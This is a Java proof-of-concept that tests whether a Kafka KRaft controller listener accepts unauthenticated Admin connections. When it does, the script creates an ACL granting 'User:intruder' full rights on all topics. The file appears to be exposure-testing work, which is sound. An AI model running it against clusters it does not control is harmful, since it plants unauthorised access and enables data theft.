// Tries what any local process could do if the KRaft controller listener took anyone: reach
// it without credentials and create an ACL through it (Kafka's Admin with
// bootstrap.controllers, KIP-919). Prints "reached <cluster id>" once the controller answers,
// then "created" or "refused: <why>". Run: java -cp <kafka jars> ControllerAcl.java HOST:PORT
import java.util.List;
import java.util.Properties;
import java.util.concurrent.TimeUnit;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.common.acl.AccessControlEntry;
import org.apache.kafka.common.acl.AclBinding;
import org.apache.kafka.common.acl.AclOperation;
import org.apache.kafka.common.acl.AclPermissionType;
import org.apache.kafka.common.resource.PatternType;
import org.apache.kafka.common.resource.ResourcePattern;
import org.apache.kafka.common.resource.ResourceType;

public class ControllerAcl {
    public static void main(String[] args) {
        Properties props = new Properties();
        props.put("bootstrap.controllers", args[0]);
        props.put("default.api.timeout.ms", "8000");
        props.put("request.timeout.ms", "4000");
        try (Admin admin = Admin.create(props)) {
            System.out.println("reached " + admin.describeCluster().clusterId().get(10, TimeUnit.SECONDS));
            AclBinding binding = new AclBinding(
                new ResourcePattern(ResourceType.TOPIC, "*", PatternType.LITERAL),
                new AccessControlEntry("User:intruder", "*", AclOperation.ALL, AclPermissionType.ALLOW));
            admin.createAcls(List.of(binding)).all().get(10, TimeUnit.SECONDS);
            System.out.println("created");
        } catch (Exception e) {
            System.out.println("refused: " + e);
        }
    }
}
